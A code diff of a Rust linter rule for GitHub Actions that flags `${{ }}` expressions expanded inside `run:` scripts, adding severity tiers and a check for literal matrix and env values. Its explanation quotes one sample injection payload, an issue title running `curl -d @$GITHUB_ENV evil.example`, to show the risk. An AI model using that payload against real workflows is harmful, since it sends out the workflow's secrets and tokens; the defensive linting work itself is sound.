@@ -14,7 +14,7 @@ pub static RULE: Rule = Rule {
     practice: Practice::TechnicalSecurityGuidance,
     level: Level::Basic,
     controls: &["OSPS-BR-01.01"],
-    description: "A `${{ … }}` expression inside `run:` (or the `script:` of `actions/github-script`) reads data that whoever opens an issue, pull request, comment, review or discussion, or names a branch or writes a commit message, controls: titles, bodies, head refs, commit messages and authors, page names, and env variables, step outputs or job outputs set from them. Caller- and dispatcher-supplied `inputs.*` are reported at low severity.",
+    description: "A `${{ … }}` expression inside `run:` (or the `script:` of `actions/github-script`) reads data that whoever opens an issue, pull request, comment, review or discussion, or names a branch or writes a commit message, controls: titles, bodies, head refs, commit messages and authors, page names, and env variables, step outputs or job outputs set from them. Caller- and dispatcher-supplied `inputs.*` are reported at low severity, branch and tag names (`github.ref_name`, `github.ref`, `github.base_ref`) at medium, and any other context whose content is not known to be safe (step outputs, `matrix`, `env`, `needs`) at info: it is better passed through `env:` too. Known-safe values (`github.sha`, run ids and numbers, pull request and issue numbers, `runner.*`, step outcomes) are never reported.",
     why: "GitHub substitutes `${{ }}` into the script text before the shell runs it, so the value becomes code. An issue titled `a\"; curl -d @$GITHUB_ENV evil.example; #` runs that command with the workflow's token and secrets (GitHub Security Lab, \"Keeping your GitHub Actions and workflows secure Part 2: Untrusted input\").",
     fix: "Pass the value through an environment variable and quote it in the shell (`env: TITLE: ${{ github.event.issue.title }}` then `run: echo \"$TITLE\"`).",
     fix_details: "Bad:\n\n```yaml\n- run: echo \"${{ github.event.issue.title }}\"\n```\n\nGood:\n\n```yaml\n- env:\n    TITLE: ${{ github.event.issue.title }}\n  run: echo \"$TITLE\"\n```\n\nIn `actions/github-script`, read `context.payload.issue.title` in JavaScript instead of expanding it. Numeric ids such as `github.event.pull_request.number` and commit SHAs are not attacker-controlled text and are not reported.",
@@ -51,6 +51,13 @@ pub fn check(ctx: &StepsCtx<'_, '_>, out: &mut Vec<Finding>) {
                     (Severity::High, Confidence::Medium, p)
                 } else if let Some(p) = paths.iter().find(|p| expr::caller_controlled(p)) {
                     (Severity::Low, Confidence::Low, p.clone())
+                } else if let Some(p) = paths.iter().find(|p| expr::ref_name(p)) {
+                    (Severity::Medium, Confidence::Medium, p.clone())
+                } else if let Some(p) = paths
+                    .iter()
+                    .find(|p| !expr::known_safe(p) && !static_value(ctx, step, p))
+                {
+                    (Severity::Info, Confidence::Low, p.clone())
                 } else {
                     continue;
                 };
@@ -80,6 +87,35 @@ pub fn check(ctx: &StepsCtx<'_, '_>, out: &mut Vec<Finding>) {
             }
         }
     }
+}
+
+/// Whether `path` is a `matrix.*` of a matrix written out literally, or an `env.*`
+/// set to a literal in the step, job or workflow: values the repository itself fixes.
+fn static_value(ctx: &StepsCtx<'_, '_>, step: &crate::model::Step<'_>, path: &str) -> bool {
+    let src = ctx.file.src;
+    let literal = |n: &crate::yaml::Node| {
+        src.get(n.span.start.offset..n.span.end.offset)
+            .is_some_and(|raw| !raw.contains("${{"))
+    };
+    if path.starts_with("matrix.") || path == "matrix" {
+        return ctx
+            .job
+            .and_then(|j| j.node.get("strategy"))
+            .and_then(|s| s.get("matrix"))
+            .is_some_and(literal);
+    }
+    if let Some(name) = path.strip_prefix("env.") {
+        let envs = [step.env, ctx.job.and_then(|j| j.env), ctx.workflow.and_then(|w| w.env)];
+        for env in envs.into_iter().flatten() {
+            if let Some((_, v)) = env
+                .as_map()
+                .and_then(|m| m.iter().find(|(k, _)| k.as_str().is_some_and(|k| k.eq_ignore_ascii_case(name))))
+            {
+                return literal(v);
+            }
+        }
+    }
+    false
 }
 
 /// An env variable name for a context path: `github.event.issue.title` → `ISSUE_TITLE`.
